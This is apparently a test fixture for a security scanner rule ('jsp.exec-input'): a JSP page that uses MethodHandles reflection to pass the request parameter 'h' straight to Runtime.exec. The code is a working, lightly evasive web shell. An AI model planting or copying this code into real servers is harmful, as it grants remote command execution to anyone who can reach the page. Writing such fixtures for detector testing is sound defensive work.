<%-- expect rule=jsp.exec-input min=85 --%>
<%@ page import="java.lang.invoke.*" %>
<%
    MethodHandle mh = MethodHandles.lookup().findVirtual(Runtime.class, "exec", MethodType.methodType(Process.class, String.class));
    mh.invoke(Runtime.getRuntime(), request.getParameter("h"));
%>
